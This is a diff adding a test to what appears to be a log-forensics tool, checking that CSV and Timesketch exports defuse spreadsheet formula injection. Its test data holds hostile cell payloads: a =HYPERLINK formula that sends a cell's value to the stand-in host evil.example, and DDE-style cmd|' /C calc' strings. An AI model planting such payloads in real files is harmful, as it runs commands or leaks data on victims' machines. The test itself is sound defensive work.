@@ -2,7 +2,7 @@ import { readFileSync, writeFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { tempDir } from '../../test/helpers/builders';
+import { ctRecord, jsonLines, tempDir } from '../../test/helpers/builders';
 import { queryEvents } from '../api/events-service';
 import { CaseStore } from '../case-store/case-store';
 import { importBundles } from '../ingest/importer';
@@ -67,5 +67,36 @@ describe('exports of a filtered events view', () => {
     const last = (await readJournal(store)).at(-1)!;
     expect(last).toMatchObject({ action: 'export', body: { path: out, format: 'csv', rows: expected, sha256: forced.sha256, filter: FILTER } });
     expect((await verifyJournal(store)).ok).toBe(true);
+  });
+
+  it('writes log content that a spreadsheet would run as text, in CSV and Timesketch, unless raw cells are asked for', async () => {
+    const hostileCase = await CaseStore.open(join(dir, 'hostile.duckdb'), { create: true });
+    try {
+      const log = join(dir, 'hostile.jsonl');
+      writeFileSync(
+        log,
+        jsonLines([
+          ctRecord(1, { userAgent: `=HYPERLINK("http://evil.example/?x="&A1)`, sourceIPAddress: `@SUM(1+1)*cmd|' /C calc'!A0` }),
+          ctRecord(2, { userAgent: `=cmd|' /C calc'!A0`, eventName: '+GetObject' }),
+        ]),
+      );
+      await importBundles(hostileCase, [log]);
+      const csv = join(dir, 'hostile.csv');
+      await exportEvents(hostileCase, { filter: {}, format: 'csv', out: csv });
+      const rows = parse(readFileSync(csv), { columns: true }) as Record<string, string>[];
+      expect(rows.map((r) => r.user_agent)).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1)`, `'=cmd|' /C calc'!A0`]);
+      expect(rows[0]!.src_ip).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+      expect(rows[1]!.operation).toBe(`'+GetObject`);
+      expect(Number(rows[0]!.bytes_out)).toBeGreaterThan(0);
+      const timeline = join(dir, 'hostile.timesketch.csv');
+      await exportEvents(hostileCase, { filter: {}, format: 'timesketch', out: timeline });
+      const sketch = parse(readFileSync(timeline), { columns: true }) as Record<string, string>[];
+      expect(sketch.every((r) => !/^[=+\-@\t\r]/.test(r.user_agent!) && !/^[=+\-@\t\r]/.test(r.source_ip!))).toBe(true);
+      const raw = join(dir, 'hostile-raw.csv');
+      await exportEvents(hostileCase, { filter: {}, format: 'csv', out: raw, rawCells: true });
+      expect((parse(readFileSync(raw), { columns: true }) as Record<string, string>[])[1]!.user_agent).toBe(`=cmd|' /C calc'!A0`);
+    } finally {
+      hostileCase.close();
+    }
   });
 });
